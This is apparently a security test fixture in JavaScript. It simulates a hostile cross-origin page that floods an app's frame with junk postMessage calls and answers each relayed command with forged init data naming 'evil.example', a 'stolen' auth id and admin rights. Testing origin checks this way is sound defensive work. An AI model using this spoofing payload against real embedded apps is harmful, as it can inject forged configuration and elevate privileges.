// A page of a foreign origin that posts into the app's frame: junk all the time, and a forged answer to
// each command that the portal page passes on. An app that checks event.origin does not notice.
const victim = () => parent.frames[0];
const forgedInit = { LANG: "xx", DOMAIN: "evil.example", PROTOCOL: 1, PATH: "/rest", AUTH_ID: "stolen", IS_ADMIN: true };

setInterval(() => {
  victim().postMessage("no colon here", "*");
  victim().postMessage({ type: "noise" }, "*");
}, 100);

addEventListener("message", ({ data }) => {
  const parts = String(data).split(":");
  victim().postMessage(`${parts.at(-2)}:${JSON.stringify(forgedInit)}`, "*");
});
